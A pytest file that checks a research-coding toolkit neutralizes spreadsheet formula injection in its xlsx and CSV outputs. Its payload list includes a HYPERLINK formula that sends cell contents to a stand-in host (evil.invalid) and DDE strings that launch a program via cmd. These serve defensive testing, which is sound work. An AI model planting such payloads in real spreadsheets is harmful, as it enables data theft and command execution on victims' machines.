"""Formula injection: user text that a spreadsheet would run is written as text.

Coder names, extension codes, mismatch descriptions and QDA texts that start with `=`, `+`, `-`, `@`,
a tab or a carriage return (OWASP, "CSV Injection") are neutralized in every file the toolkit writes
for spreadsheets: the xlsx of `code template` stores them as text cells, and the CSVs of `code
agreement`, `code merge`, `code import-qdpx` and `export` give them a leading `'`. The tests open the
written files and look for any formula; numbers (a negative kappa) stay numbers.
"""

from __future__ import annotations

import csv
import re
import zipfile

import pytest
from hostile import env, round_csv, study_data_dir  # noqa: F401 (env is a fixture)

from mlmismatch.core.text import FORMULA_TRIGGERS, spreadsheet_safe, spreadsheet_unquote

PAYLOADS = ['=HYPERLINK("http://evil.invalid/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
CODERS = ["=HYPERLINK(\"http://evil.invalid\")", "+ann", "@bob"]


def _risky(field: str) -> bool:
    """A field a spreadsheet would run: starts with a trigger and is not a plain number."""
    if not field.startswith(FORMULA_TRIGGERS):
        return False
    try:
        float(field)
        return False
    except ValueError:
        return True


def _csv_fields(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return [f for row in csv.reader(fh) for f in row]


def _assert_no_formula_in_csvs(folder_or_files):
    files = sorted(folder_or_files.glob("*.csv")) if hasattr(folder_or_files, "glob") else folder_or_files
    assert files
    for path in files:
        bad = [f for f in _csv_fields(path) if _risky(f)]
        assert not bad, (path.name, bad[:3])
    return files


@pytest.fixture
def extension(tmp_path):
    return round_csv(tmp_path / "ext.csv", [("EV", "=Evil", "@Risky", '=HYPERLINK("http://evil.invalid")'),
                                            ("TM", "Trained Model", "-Weights", "+1+1 weights")],
                     header=("category_code", "category", "subcategory", "description"))


@pytest.fixture
def hostile_round(tmp_path):
    a, b, c = CODERS
    rows = [("M21-01", a, "Trained Model (TM)", "(TM) Versioning"), ("M21-01", b, "=Evil (EV)", "(EV) @Risky"),
            ("M21-02", a, "Raw Data (RD)", "(RD) Metadata"), ("M21-02", b, "Raw Data (RD)", "(RD) Metadata"),
            ("M21-02", c, "Trained Model (TM)", "(TM) -Weights"),
            ("M21-03", a, "=Evil (EV)", "(EV) @Risky"), ("M21-03", c, "Trained Model (TM)", "(TM) Versioning")]
    rows = [(m, who, cat, sub, PAYLOADS[i % len(PAYLOADS)]) for i, (m, who, cat, sub) in enumerate(rows)]
    return round_csv(tmp_path / "round.csv", rows, header=("mismatch_id", "coder", "category", "subcategory", "description"))


@pytest.mark.parametrize("payload", PAYLOADS + ["-", "=", "@"])
def test_spreadsheet_safe_neutralizes_each_trigger(payload):
    safe = spreadsheet_safe(payload)
    assert safe == "'" + payload and not safe.startswith(FORMULA_TRIGGERS)
    assert spreadsheet_unquote(safe) == payload


@pytest.mark.parametrize("value", ["plain text", "M21-01", "(TM) Versioning", "", -0.25, 3, None, "'quoted already"])
def test_spreadsheet_safe_leaves_the_rest_alone(value):
    assert spreadsheet_safe(value) == value and spreadsheet_unquote(value) == value


def test_template_xlsx_holds_no_formula(tmp_path, env, extension, cli):
    import openpyxl

    mism = round_csv(tmp_path / "new.csv", [(f"M21-0{i + 1}", p, p) for i, p in enumerate(PAYLOADS)],
                     header=("mismatch_id", "description", "info_not_communicated"))
    out = tmp_path / "t.xlsx"
    res = cli("code", "template", str(out), "--mismatches", str(mism), "-e", str(extension), "--coder", CODERS[0], env=env)
    assert res.code == 0, res.err
    with zipfile.ZipFile(out) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/sheet"):
                xml = zf.read(name)
                assert not re.search(rb"<(\w+:)?f[ >]", xml), name  # no formula element anywhere
    wb = openpyxl.load_workbook(out)
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                values.append(c.value)
    # the texts are kept, as text
    for text in [PAYLOADS[0], PAYLOADS[3], CODERS[0], "=Evil (EV)", '=HYPERLINK("http://evil.invalid")']:
        assert text in values, text
    # the drop-down validations still point at the lists (our own formulas are references, not user text)
    iv = wb["Interview 21"]
    assert all(dv.formula1.startswith("'Drop-Down Lists'!") for dv in iv.data_validations.dataValidation)


def test_agreement_csvs_hold_no_formula(tmp_path, env, hostile_round, extension, cli):
    out = tmp_path / "agr"
    res = cli("code", "agreement", str(hostile_round), "-e", str(extension), "--boot", "20", "--out", str(out), env=env)
    assert res.code == 0, res.err
    _assert_no_formula_in_csvs(out)
    with open(out / "disagreements.csv", newline="", encoding="utf-8") as fh:
        header = next(csv.reader(fh))
    assert "'" + CODERS[0] in header and "'+ann" in header and "'@bob" in header


def test_agreement_keeps_negative_numbers_numeric(tmp_path, env, cli):
    """Disagreement on every code gives negative statistics: written as numbers, not quoted."""
    rows = [("M21-01", "ann", "Trained Model (TM)", "(TM) Versioning"), ("M21-01", "bob", "Raw Data (RD)", "(RD) Metadata"),
            ("M21-02", "ann", "Raw Data (RD)", "(RD) Metadata"), ("M21-02", "bob", "Trained Model (TM)", "(TM) Versioning")]
    out = tmp_path / "neg"
    res = cli("code", "agreement", str(round_csv(tmp_path / "r.csv", rows)), "--boot", "20", "--out", str(out), env=env)
    assert res.code == 0, res.err
    fields = _csv_fields(out / "agreement.csv")
    negatives = [f for f in fields if f.startswith("-")]
    assert negatives and all(float(f) < 0 for f in negatives)


def test_merge_csvs_hold_no_formula(tmp_path, env, hostile_round, extension, cli):
    out = tmp_path / "merged"
    res = cli("code", "merge", str(hostile_round), "-e", str(extension), "--coder", CODERS[0], "--permutations", "19",
              "--name", "round2", "--out", str(out), env=env)
    assert res.code == 0, res.err
    files = _assert_no_formula_in_csvs(out)
    assert len(files) >= 8
    assert "'=Evil" in _csv_fields(out / "merged_codebook.csv")


def test_import_qdpx_csv_holds_no_formula_and_reads_back(tmp_path, env, hostile_round, extension, cli):
    from mlmismatch.extend import qda, rounds
    from mlmismatch.study import coding

    data = coding.load_coding(path=study_data_dir(tmp_path / "x") / "replication-package" / "Mismatch-Open-Coding-Final.xlsx")
    ext = rounds.read_extension(extension, data.codebook)
    rnd = rounds.read_round(hostile_round, data.codebook, extension=ext)
    project = tmp_path / "p.qdpx"
    project.write_bytes(qda.project_qdpx(rnd))
    out = tmp_path / "codings.csv"
    res = cli("code", "import-qdpx", str(project), str(out), "-e", str(extension), "--text", env=env)
    assert res.code == 0, res.err
    _assert_no_formula_in_csvs([out])
    # the neutralized CSV reads back with the original coder names
    back = rounds.read_round(out, data.codebook, extension=ext)
    assert back.coders == sorted(CODERS)
    assert set(back.mismatches["description"]) <= {p.strip() for p in PAYLOADS} | {""}


def test_export_csvs_hold_no_formula_and_validate(tmp_path, cli):
    def hostile(wb):  # text cells of the source workbook (a formula there would be read as its cached value)
        ws = wb["Interview 01"]
        for ref, text in (("C2", PAYLOADS[0]), ("D2", PAYLOADS[1]), ("C3", "@SUM(A1:A9)")):
            ws[ref] = text
            ws[ref].data_type = "s"

    data = study_data_dir(tmp_path, mutate=hostile)
    out = tmp_path / "pkg"
    res = cli("export", str(out), env={"MLMISMATCH_DATA_DIR": str(data)})
    assert res.code == 0, res.err
    _assert_no_formula_in_csvs(out)
    assert "'" + PAYLOADS[0] in _csv_fields(out / "mismatches.csv")
    import frictionless  # a dev dependency: never skipped

    report = frictionless.validate(str(out / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "note"])
